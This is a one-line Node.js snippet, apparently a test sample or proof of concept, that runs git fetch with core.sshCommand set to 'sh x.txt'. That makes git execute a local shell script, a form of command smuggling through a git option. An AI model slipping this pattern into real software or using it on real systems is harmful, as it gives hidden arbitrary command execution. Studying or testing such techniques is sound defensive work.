const {execFile}=require('child_process'); execFile("git",["-c", "core.sshCommand=sh x.txt", "fetch"],(e,o)=>0);
